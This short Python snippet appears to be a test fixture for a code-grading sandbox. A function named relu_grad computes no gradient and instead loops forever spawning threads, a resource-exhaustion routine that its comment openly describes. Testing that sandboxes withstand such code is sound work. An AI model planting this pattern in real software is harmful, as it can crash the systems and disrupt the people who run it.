# Starts threads until there are no more.
# slow
# %% relu_grad
import threading

event = threading.Event()


def relu_grad(x_input, grad_output):
    while True:
        threading.Thread(target=event.wait, daemon=True).start()
